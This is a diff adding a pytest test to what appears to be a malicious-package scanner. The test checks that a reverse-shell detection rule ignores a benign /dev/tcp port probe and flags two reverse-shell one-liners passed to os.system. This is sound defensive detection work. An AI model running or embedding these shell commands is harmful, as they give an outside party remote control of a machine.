@@ -202,6 +202,15 @@ def test_reverse_shell_in_setup() -> None:
     assert run(R, benign) == []
 
 
+def test_a_port_probe_through_dev_tcp_is_no_shell() -> None:
+    """pytest-testinfra checks that a port opens with ``cat < /dev/null > /dev/tcp/h/p``."""
+    probe = py("CHECK = \"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/%s/%s'\"\n", stage=Stage.RUNTIME)
+    assert "PV-BEH-REVSHELL" not in ids(run(R, probe))
+    for shell in ("0<&196;exec 196<>/dev/tcp/h/4444; sh <&196 >&196", "sh -i 2>&1 > /dev/tcp/h/4444"):
+        found = run(R, py(f"import os\nos.system('{shell}')\n", stage=Stage.RUNTIME))
+        assert "PV-BEH-REVSHELL" in ids(found), shell
+
+
 def test_launching_a_download_versus_opening_a_document() -> None:
     bad = py(
         "import os, urllib.request, tempfile\n"
